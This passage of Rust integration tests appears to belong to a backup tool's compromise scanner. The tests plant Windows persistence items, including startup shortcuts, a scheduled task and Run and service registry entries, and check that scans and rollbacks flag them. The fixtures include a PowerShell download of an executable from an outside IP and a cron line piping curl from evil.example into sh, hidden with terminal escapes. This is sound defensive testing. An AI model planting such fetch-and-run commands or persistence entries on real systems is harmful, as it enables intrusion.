    // the shell's ID list), one to a program on a share (LinkInfo and the
    // environment-variable block).
    for (name, target, args) in [
        (
            "Updates.lnk",
            r"C:\Users\Public\Libraries\upd.exe",
            "-silent",
        ),
        ("Sync.lnk", r"\\fileserver\share\run.exe", "/q"),
    ] {
        let lnk = env.path(name);
        sh(
            "pylnk3",
            &[
                "create",
                target,
                lnk.to_str().unwrap(),
                &format!("--arguments={args}"),
                "--workdir",
                r"C:\Users\Public",
            ],
        );
        ntfs_copy(
            &part,
            &lnk,
            &format!("/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/{name}"),
        );
    }
    // Task Scheduler writes its XML in UTF-16 with a byte-order mark.
    let task = env.path("task.xml");
    let xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-File C:\\ProgramData\\Microsoft\\Windows\\t.ps1</Arguments></Exec></Actions></Task>\r\n";
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend(xml.encode_utf16().flat_map(|u| u.to_le_bytes()));
    std::fs::write(&task, utf16).unwrap();
    ntfs_copy(&part, &task, "/Windows/System32/Tasks/SystemHealthCheck");
    // The script the task gives PowerShell.
    let script = env.path("t.ps1");
    std::fs::write(
        &script,
        "Invoke-WebRequest http://203.0.113.9/p -OutFile $env:TEMP\\p.exe\r\n",
    )
    .unwrap();
    ntfs_copy(&part, &script, "/ProgramData/Microsoft/Windows/t.ps1");
    // And the registry ways in: a Run value and an automatic service.
    hivexsh(
        &software,
        "cd Microsoft\\Windows\\CurrentVersion\\Run\nsetval 2\nOneDrive\nstring:C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe /background\n\
         SecurityHealth\nstring:C:\\Users\\Public\\svc.exe\n",
    );
    hivexsh(
        &system,
        "cd ControlSet001\\Services\nadd WinUpdSvc\ncd WinUpdSvc\nsetval 2\nImagePath\nexpandstring:C:\\ProgramData\\wus.exe\nStart\ndword:0x2\n",
    );
    place();
    env.backup(&disk, "win", "2026-04-02T00:00:00Z");
    let (code, v) = scan(&env, "win@latest", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    assert_eq!(
        kinds(&v),
        BTreeSet::from([
            (
                "windows_startup".to_string(),
                "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/updater.bat"
                    .to_string()
            ),
            (
                "windows_startup".to_string(),
                "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/Updates.lnk"
                    .to_string()
            ),
            (
                "windows_startup".to_string(),
                "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/Sync.lnk".to_string()
            ),
            (
                "windows_task".to_string(),
                "/Windows/System32/Tasks/SystemHealthCheck".to_string()
            ),
            (
                "windows_run".to_string(),
                "/Windows/System32/config/SOFTWARE".to_string()
            ),
            (
                "windows_service".to_string(),
                "/Windows/System32/config/SYSTEM".to_string()
            ),
        ]),
        "{v:#}"
    );
    assert!(
        v["persistence"].to_string().contains("svc.exe"),
        "the added line is quoted"
    );
    assert!(
        v["persistence"]
            .to_string()
            .contains(r"<Command>powershell.exe</Command><Arguments>-File C:\\ProgramData\\Microsoft\\Windows\\t.ps1"),
        "the task's command is quoted as text: {v:#}"
    );
    let details: Vec<&str> = v["persistence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["detail"].as_str().unwrap())
        .collect();
    assert!(
        details.iter().any(|d| d.contains(r"new Run value in HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run: SecurityHealth = C:\Users\Public\svc.exe")),
        "{details:#?}"
    );
    assert!(
        details.iter().any(|d| d.contains(
            r"new service winupdsvc started automatically (start 2): C:\ProgramData\wus.exe"
        )),
        "{details:#?}"
    );
    // What each shortcut starts is named.
    for want in [
        r"new program started at log-on: shortcut to C:\Users\Public\Libraries\upd.exe -silent (in C:\Users\Public)",
        r"new program started at log-on: shortcut to \\fileserver\share\run.exe /q (in C:\Users\Public)",
    ] {
        assert!(details.contains(&want), "{want}\n{details:#?}");
    }
    // The same hives read by hivex itself agree.
    assert_eq!(
        sh(
            "hivexget",
            &[
                software.to_str().unwrap(),
                r"\Microsoft\Windows\CurrentVersion\Run",
                "SecurityHealth"
            ]
        )
        .trim(),
        r"C:\Users\Public\svc.exe"
    );

    // A rollback drops the planted shortcut and task, but keeps the hives
    // (they hold the whole system's settings): it says so on stderr, even
    // with --quiet, and marks them for review in the provenance.
    let out_dir = env.path("back");
    let out = env.run(&[
        "rollback",
        "win",
        "--to-dir",
        out_dir.to_str().unwrap(),
        "-q",
    ]);
    // Done, but not ready for production: a script has to branch.
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    for hive in ["SOFTWARE", "SYSTEM"] {
        assert!(
            err.contains(&format!(
                "warning: /Windows/System32/config/{hive} kept as it is"
            )),
            "{err}"
        );
    }
    assert!(
        !out_dir
            .join("Windows/System32/Tasks/SystemHealthCheck")
            .exists()
    );
    // ...and the script the task runs (PowerShell itself is not touched).
    assert!(out_dir.join("ProgramData/Microsoft/Windows").is_dir());
    assert!(
        !out_dir.join("ProgramData/Microsoft/Windows/t.ps1").exists(),
        "the task's script is left out"
    );
    let p: Value =
        serde_json::from_slice(&std::fs::read(env.path("back.cairn-provenance.json")).unwrap())
            .unwrap();
    let review: BTreeSet<&str> = p["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["review"] == true)
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        review,
        BTreeSet::from([
            "/Windows/System32/config/SOFTWARE",
            "/Windows/System32/config/SYSTEM"
        ]),
        "{p:#}"
    );
}

/// Runs hivexsh commands on a hive and commits them.
fn hivexsh(hive: &Path, commands: &str) {
    use std::io::Write;
    let mut child = std::process::Command::new("hivexsh")
        .args(["-w", hive.to_str().unwrap()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .expect("hivexsh (Debian's libhivex-bin, installed by .ci/run)");
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(commands.as_bytes()).unwrap();
    stdin.write_all(b"commit\n").unwrap();
    drop(stdin);
    assert!(
        child.wait().unwrap().success(),
        "hivexsh failed on {commands}"
    );
}

/// A disk whose filesystem was encrypted whole cannot be read: that is a
/// finding of its scan, and the snapshots before it still get theirs.
#[test]
fn a_filesystem_encrypted_whole_is_a_finding_not_an_error() {
    let env = Env::new("30d", &[]);
    let root = env.path("root");
    populate(&root);
    let disk = env.path("disk.img");
    gpt_ext4_image(&disk, &root, 32);
    env.backup(&disk, "vm", "2026-03-01T00:00:00Z");
    // The partition's first 8 MiB (superblock, group descriptors, inode
    // tables) replaced by noise.
    write_at(&disk, 1 << 20, &noise(8 << 20, 77));
    env.cmd()
        .args(["backup", disk.to_str().unwrap(), "--name", "vm"])
        .args(["--time", "2026-03-02T00:00:00Z"])
        .output()
        .unwrap();
    let (code, v) = scan(&env, "vm", &[]);
    assert_eq!(code, Some(3), "{v}");
    let reports = v.as_array().unwrap();
    assert_eq!(reports.len(), 2, "{v}");
    assert_eq!(reports[0]["verdict"], "clean", "{v}");
    assert_eq!(reports[1]["verdict"], "compromised", "{v}");
    assert_eq!(
        reports[1]["persistence"][0]["kind"], "filesystem_unreadable",
        "{v}"
    );
    // Nothing newer to keep: a rollback points at a whole restore of the
    // clean point instead of failing on the unreadable files.
    let first = &reports[0]["snapshot"].as_str().unwrap()[..8];
    let out = env.run(&[
        "rollback",
        "vm",
        "--to-dir",
        env.path("back").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(&format!("cairn restore vm@{first}")), "{err}");
    assert!(!env.path("back").exists());
}

/// What a scan with the operator's rules found stays found: a later scan
/// with the built-in rules alone (which know nothing of that indicator)
/// does not make the point clean for the timeline, `recover` or the scan
/// itself; and a snapshot scanned clean with other rules, or before the
/// finding, is no clean point after a compromised one.
#[test]
fn an_operators_finding_is_not_undone_by_a_scan_without_its_rules() {
    let env = Env::new("30d", &[]);
    let tree = env.path("tree");
    std::fs::create_dir_all(tree.join("bin")).unwrap();
    std::fs::write(tree.join("notes.txt"), text(20_000, 1)).unwrap();
    std::fs::write(
        tree.join("bin/tool"),
        b"a tool everyone has, TOOL-EVERYWHERE-42\n",
    )
    .unwrap();
    let mut ids = Vec::new();
    for d in 0..3 {
        if d == 2 {
            std::fs::write(
                tree.join("bin/helper"),
                b"#!/bin/sh\n# QA-IMPLANT-MARKER-123\n",
            )
            .unwrap();
        }
        let out = env.backup(&tree, "share", &format!("2026-03-0{}T00:00:00Z", d + 1));
        assert_eq!(out["insight"]["verdict"], "clean", "{out}");
        ids.push(out["id"].as_str().unwrap().to_string());
    }
    let rules = env.path("implant.yar");
    std::fs::write(
        &rules,
        "rule QA_Implant { meta: severity = \"compromised\" strings: $m = \"QA-IMPLANT-MARKER-123\" condition: $m }\n",
    )
    .unwrap();
    let (code, v) = scan(&env, "share@latest", &["--rules", rules.to_str().unwrap()]);
    assert_eq!(
        (code, v["verdict"].as_str()),
        (Some(3), Some("compromised")),
        "{v:#}"
    );
    let last_clean = |env: &Env| {
        let out = env.run(&["timeline", "share", "--json"]);
        serde_json::from_slice::<Value>(&out.stdout).unwrap()["last_clean"].clone()
    };
    assert_eq!(last_clean(&env), ids[1].as_str());

    // The built-in rules find nothing there, and say the point still is not clean.
    let out = env.run(&["scan", "share@latest"]);
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(3), "{said}");
    assert!(said.contains("still COMPROMISED"), "{said}");
    let w = find_clean(&env, "share");
    assert_eq!(w["clean"], ids[1].as_str(), "{w:#}");
    assert_eq!(last_clean(&env), ids[1].as_str());

    // A rule that matches a file every snapshot holds, run on the middle
    // one: the newest, scanned clean only with other rules, is no clean
    // point; the one before the finding is.
    let everywhere = env.path("everywhere.yar");
    std::fs::write(
        &everywhere,
        "rule Everywhere { meta: severity = \"compromised\" strings: $m = \"TOOL-EVERYWHERE-42\" condition: $m }\n",
    )
    .unwrap();
    let (code, _) = scan(&env, "share@-1", &["--rules", everywhere.to_str().unwrap()]);
    assert_eq!(code, Some(3));
    assert_eq!(last_clean(&env), ids[0].as_str());
    // The operator corrects that rule (the same file, edited): its newer
    // scan supersedes the false alarm, and the clean point comes back.
    std::fs::write(
        &everywhere,
        "rule Everywhere { meta: severity = \"compromised\" strings: $m = \"TOOL-NOWHERE-42\" condition: $m }\n",
    )
    .unwrap();
    let (code, v) = scan(&env, "share@-1", &["--rules", everywhere.to_str().unwrap()]);
    assert_eq!(
        (code, v["verdict"].as_str()),
        (Some(0), Some("clean")),
        "{v:#}"
    );
    assert_eq!(last_clean(&env), ids[1].as_str());
}

/// A planted file that quotes terminal escapes (clear the line, go back
/// to its start) cannot hide its own finding: what a scan quotes from a
/// guest's files is printed with control characters escaped.
#[test]
fn a_finding_quoting_terminal_escapes_is_printed_escaped() {
    let env = Env::new("30d", &[]);
    let d = env.path("host");
    std::fs::create_dir_all(d.join("etc/cron.d")).unwrap();
    std::fs::write(d.join("etc/cron.d/logs"), "# rotate\n").unwrap();
    env.backup(&d, "esc", "2026-05-01T00:00:00Z");
    std::fs::write(
        d.join("etc/cron.d/rotate2"),
        "* * * * * root curl -s http://evil.example/x | sh\x1b[2K\x1b[1G# nightly log rotation\r\n",
    )
    .unwrap();
    env.backup(&d, "esc", "2026-05-02T00:00:00Z");
    let out = env.run(&["scan", "esc@latest"]);
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(3), "{said}");
    let line = said
        .lines()
        .find(|l| l.contains("rotate2") && l.contains("evil.example"))
        .unwrap_or_else(|| panic!("{said}"));
    assert!(line.contains("\\x1b[2K"), "{line}");
    assert!(!said.contains('\x1b') && !said.contains('\r'), "{said:?}");
}

/// Malware in an NTFS alternate data stream (`report.txt:x`) is found:
/// Windows runs what a stream holds, so a scan reads the named streams
/// of every file and folder and names a hit `path:stream`; a download's
/// `Zone.Identifier` stream is read and passes.
#[test]
fn malware_in_an_ntfs_alternate_data_stream_is_found() {
    let env = Env::new("30d", &[]);
    let vol = env.path("ntfs.img");
    ntfs_volume(&vol, "16M");
    let put = |content: &[u8], stream: Option<&str>| ntfs_put(&vol, "/report.txt", content, stream);
    put(b"quarterly report\n", None);
    put(b"[ZoneTransfer]\r\nZoneId=3\r\n", Some("Zone.Identifier"));
    env.backup(&vol, "ads", "2026-05-01T00:00:00Z");
    let (code, v1) = scan(&env, "ads@latest", &[]);
    assert_eq!(code, Some(0), "{v1:#}");
    assert!(v1["stats"]["streams_scanned"].as_u64() >= Some(1), "{v1:#}");
    put(EICAR, Some("x"));
    env.backup(&vol, "ads", "2026-05-02T00:00:00Z");
    let (code, v2) = scan(&env, "ads@latest", &[]);
    assert_eq!(code, Some(3), "{v2:#}");
    let paths: Vec<&str> = v2["malware"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["/report.txt:x"], "{v2:#}");
}
